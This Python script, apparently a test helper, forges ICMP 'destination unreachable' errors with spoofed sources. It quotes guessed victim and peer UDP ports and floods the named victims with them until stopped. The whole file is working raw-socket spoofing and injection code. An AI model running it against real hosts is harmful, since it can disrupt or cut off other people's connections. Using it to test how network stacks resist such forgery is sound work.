"""Forges ICMP errors about packets that it has never seen, as anybody can who reaches a host and guesses
addresses and ports.

forger.py SEED ENDS...      until it is ended. Each of ENDS is VICTIM:PORT,PEER:PORT: the victim is told, over
                            and over, that what its socket sent to the peer's was refused: with each code of
                            "destination unreachable", by the forger itself, by the peer's host and by a
                            router, quoting nothing, a little or much of a packet. Prints how many it has
                            sent.
"""
import random
import signal
import socket
import struct
import sys
import time

HEADER = 20
UDP = 17
CODES = [3] * 6 + [0, 1, 2, 4, 5, 9, 10, 13]  # port unreachable most of all


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(source, target, protocol, payload):
    length = HEADER + len(payload)
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, length, 1, 0, 64, protocol, 0,
        socket.inet_aton(source), socket.inet_aton(target)
    )
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def refusal(source, victim, peer, code, quote):
    udp = struct.pack("!HHHH", victim[1], peer[1], 8 + len(quote), 0) + quote
    quoted = ip(victim[0], peer[0], UDP, udp)
    # The next hop's MTU belongs to code 4.
    body = struct.pack("!BBHHH", 3, code, 0, 0, 552) + quoted
    body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
    return ip(source, victim[0], socket.IPPROTO_ICMP, body)


def main(seed, ends):
    rng = random.Random(seed)
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    quotes = [
        lambda: b"",
        lambda: b"\0",
        lambda: rng.randbytes(rng.choice([8, 16, 24, 32])),
        lambda: b"\x54\x01\0" + rng.randbytes(29),
        lambda: rng.randbytes(500),
    ]
    sent, running = 0, True

    def stop(*_):
        nonlocal running
        running = False

    signal.signal(signal.SIGTERM, stop)
    print("ready", flush=True)
    while running:
        victim, peer = rng.choice(ends)
        if rng.random() < 0.2:
            peer = (peer[0], rng.randint(1, 65535))
        try:
            out.connect((victim[0], 0))
            itself = out.getsockname()[0]
            source = rng.choice([itself, peer[0], "10.255.255.254"])
            out.sendto(refusal(source, victim, peer, rng.choice(CODES), rng.choice(quotes)()), (victim[0], 0))
            sent += 1
        except OSError:
            pass  # no way to this one of the victim's addresses
        time.sleep(0.0005)
    print(sent, flush=True)


def end(word):
    address, port = word.rsplit(":", 1)
    return address, int(port)


main(int(sys.argv[1]), [tuple(end(word) for word in pair.split(",")) for pair in sys.argv[2:]])
